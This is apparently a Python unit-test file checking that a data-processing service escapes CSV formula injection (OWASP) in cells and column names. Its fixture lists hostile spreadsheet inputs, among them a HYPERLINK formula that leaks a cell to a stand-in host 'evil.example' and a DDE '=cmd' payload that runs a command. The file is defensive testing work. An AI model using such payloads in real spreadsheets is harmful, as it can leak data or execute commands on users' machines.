"""csv_formula_escape: CSV outputs escaped against formula injection (OWASP), or unchanged."""

import csv
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from schemas.domain.records import ColumnInfo
from services.processing.processors.output import escape_formula
from services.processing.processors.registry import validate_step
from services.processing.processors.tables import anomalies, normalize
from tests.unit.processors.conftest import StepFactory

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "@SUM(1)",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "\tstarts with a tab",
    "\rstarts with a CR",
    "-5",  # text that reads like a number is text: escaped too
    "plain",
    "a,=b",  # not at the start
    "",
    None,
]
ESCAPED = ["'" + v if v and v[0] in "=+-@\t\r" else ("" if v is None else v) for v in HOSTILE]
ROWS = len(HOSTILE)
# Numbers: negative ones included, and an outlier at each end for anomalies' IQR fences.
NUMBERS = [-5.0, 1.0, 2.0, 3.0, 4.0, 5.0, -1000.0, 6.0, 7.0, 8.0, 1000.0, None]
INTEGERS = [-3, -2, -1, 0, 1, 2, 3, 4, 5, 6, -7000, 7000]
FORMULA_NAME = "=SUM(A1:A9)"  # a numeric column whose name is a formula


@pytest.fixture
def hostile(tmp_path: Path) -> tuple[Path, list[ColumnInfo]]:
    table = pa.table(
        {
            "text": pa.array(HOSTILE, pa.string()),
            "n": pa.array(NUMBERS, pa.float64()),
            "i": pa.array(INTEGERS, pa.int64()),
            FORMULA_NAME: pa.array(NUMBERS, pa.float64()),
            "raw": pa.array([b"=1+1", b"bytes"] * (ROWS // 2), pa.binary()),
        }
    )
    path = tmp_path / "hostile.parquet"
    pq.write_table(table, path)
    columns = [
        ColumnInfo(name="text", type="string", null_count=1),
        ColumnInfo(name="n", type="float", null_count=1),
        ColumnInfo(name="i", type="integer", null_count=0),
        ColumnInfo(name=FORMULA_NAME, type="float", null_count=1),
        ColumnInfo(name="raw", type="blob", null_count=0),
    ]
    return path, columns


def read_csv(path: Path) -> tuple[list[str], list[list[str]]]:
    with path.open(newline="") as f:
        header, *rows = list(csv.reader(f))
    return header, rows


def run_normalize(
    make_step: StepFactory, data: tuple[Path, list[ColumnInfo]], **params: Any
) -> Path:
    path, columns = data
    model = validate_step("normalize", {"output_format": "csv", **params}, columns)
    assert isinstance(model, normalize.NormalizeParams)
    result = normalize.run(make_step(parquet_path=path, columns=columns), model)
    return result.artifacts[0].path


def numbers(cells: list[str]) -> list[float | None]:
    return [float(c) if c else None for c in cells]


def test_off_by_default_writes_values_unchanged(
    make_step: StepFactory, hostile: tuple[Path, list[ColumnInfo]]
) -> None:
    model = validate_step("normalize", {}, hostile[1])
    assert isinstance(model, normalize.NormalizeParams) and model.csv_formula_escape is False

    header, rows = read_csv(run_normalize(make_step, hostile))

    assert header == ["text", "n", "i", FORMULA_NAME, "raw"]
    assert [r[0] for r in rows] == ["" if v is None else v for v in HOSTILE]
    assert numbers([r[1] for r in rows]) == NUMBERS
    assert [int(r[2]) for r in rows] == INTEGERS
    assert [r[4] for r in rows] == ["=1+1", "bytes"] * (ROWS // 2)


def test_on_escapes_text_cells_and_names_but_not_numbers(
    make_step: StepFactory, hostile: tuple[Path, list[ColumnInfo]]
) -> None:
    out = run_normalize(make_step, hostile, csv_formula_escape=True)
    header, rows = read_csv(out)

    assert header == ["text", "n", "i", "'" + FORMULA_NAME, "raw"]
    assert [r[0] for r in rows] == ESCAPED
    assert [r[4] for r in rows] == ["'=1+1", "bytes"] * (ROWS // 2)
    # Numbers, negative ones included, are written as before: still numbers to a spreadsheet.
    assert numbers([r[1] for r in rows]) == NUMBERS
    assert numbers([r[3] for r in rows]) == NUMBERS
    assert [int(r[2]) for r in rows] == INTEGERS
    assert rows[0][1] == "-5.0"
    # Text columns are quoted (OWASP), numeric ones not; a null stays an empty, unquoted cell.
    lines = out.read_bytes().split(b"\n")
    assert lines[0] == b'"text",n,i,\'=SUM(A1:A9),"raw"'
    assert lines[1].startswith(b'"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")",-5.0,')
    assert out.read_bytes().rstrip(b"\n").endswith(b'\n,,7000,,"bytes"')


def test_on_changes_nothing_in_other_formats(
    make_step: StepFactory, hostile: tuple[Path, list[ColumnInfo]]
) -> None:
    path, columns = hostile
    params = normalize.NormalizeParams(output_format="parquet", csv_formula_escape=True)
    result = normalize.run(make_step(parquet_path=path, columns=columns), params)
    table = pq.read_table(result.artifacts[0].path)
    assert table.column_names == ["text", "n", "i", FORMULA_NAME, "raw"]
    assert table.column("text").to_pylist() == HOSTILE


@pytest.mark.parametrize("escape", [False, True])
def test_anomalies_escapes_column_names_not_values(
    make_step: StepFactory, hostile: tuple[Path, list[ColumnInfo]], escape: bool
) -> None:
    path, columns = hostile
    params = validate_step(
        "anomalies",
        {"method": "iqr", "columns": ["n", FORMULA_NAME], "csv_formula_escape": escape},
        columns,
    )
    assert isinstance(params, anomalies.AnomaliesParams)
    result = anomalies.run(make_step(parquet_path=path, columns=columns), params)
    out = result.artifacts[0].path

    header, rows = read_csv(out)

    name = "'" + FORMULA_NAME if escape else FORMULA_NAME
    assert header == ["row_number", "line", "column", "value", "score"]
    assert [(r[0], r[2], r[3]) for r in rows] == [
        ("7", "n", "-1000.0"),
        ("7", name, "-1000.0"),
        ("11", "n", "1000.0"),
        ("11", name, "1000.0"),
    ]
    assert list(result.summary["columns"]) == ["n", FORMULA_NAME]  # the summary keeps names
    raw = out.read_text()
    assert (f'"{name}",-1000.0' in raw) is escape  # quoted only when escaping


def test_escape_formula() -> None:
    assert [escape_formula(v) for v in HOSTILE if v is not None] == ESCAPED[:-1]
    assert escape_formula("'=already") == "'=already"


def test_only_csv_writing_processors_take_the_option() -> None:
    with pytest.raises(Exception, match="csv_formula_escape"):
        validate_step("metrics", {"csv_formula_escape": True}, None)
    for name in ("anomalies", "normalize"):
        params = {"method": "zscore"} if name == "anomalies" else {}
        model = validate_step(name, {**params, "csv_formula_escape": True}, None)
        assert isinstance(model, anomalies.AnomaliesParams | normalize.NormalizeParams)
        assert model.csv_formula_escape is True
